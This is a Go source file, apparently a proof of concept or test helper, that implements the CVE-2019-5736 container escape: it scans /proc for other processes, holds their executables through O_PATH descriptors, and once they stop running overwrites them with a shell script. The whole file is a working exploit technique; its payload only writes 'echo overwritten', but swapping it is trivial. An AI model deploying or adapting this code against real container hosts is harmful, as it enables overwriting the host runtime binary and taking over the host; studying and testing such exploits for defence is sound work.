package main

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// mark is what is written over a program: a script that tells of it.
const mark = "#!/bin/sh\necho overwritten\n"

// overwriteExe takes hold of the program of every process that appears in its
// pid namespace, through /proc/PID/exe, and tries to write to it for as long as
// a run of it may last (CVE-2019-5736). It tells of what it wrote to, and with
// "seen" as its argument of what it held at all.
func overwriteExe(args []string) error {
	tell := len(args) > 0 && args[0] == "seen"
	held := map[string]bool{}
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	for {
		for _, pid := range otherPids() {
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var stat unix.Stat_t
			name, nerr := os.Readlink(exe)
			if err := unix.Fstat(fd, &stat); err != nil || nerr != nil || name == own {
				unix.Close(fd)
				continue
			}
			key := fmt.Sprint(stat.Dev, stat.Ino, name)
			if held[key] {
				unix.Close(fd)
				continue
			}
			held[key] = true
			if tell {
				fmt.Println("held", name)
			}
			go writeThrough(fd, name)
		}
	}
}

// writeThrough waits until a program runs no more, for it cannot be written to
// before, and writes to it through a descriptor from before.
func writeThrough(fd int, name string) {
	defer unix.Close(fd)
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			if _, err := f.WriteString(mark); err == nil {
				fmt.Println("overwrote", name)
			}
			f.Close()
			return
		}
		if !errors.Is(err, unix.ETXTBSY) {
			return
		}
	}
}

// otherPids are the processes that are neither this one nor the first.
func otherPids() []int {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, _ := dir.Readdirnames(-1)
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}
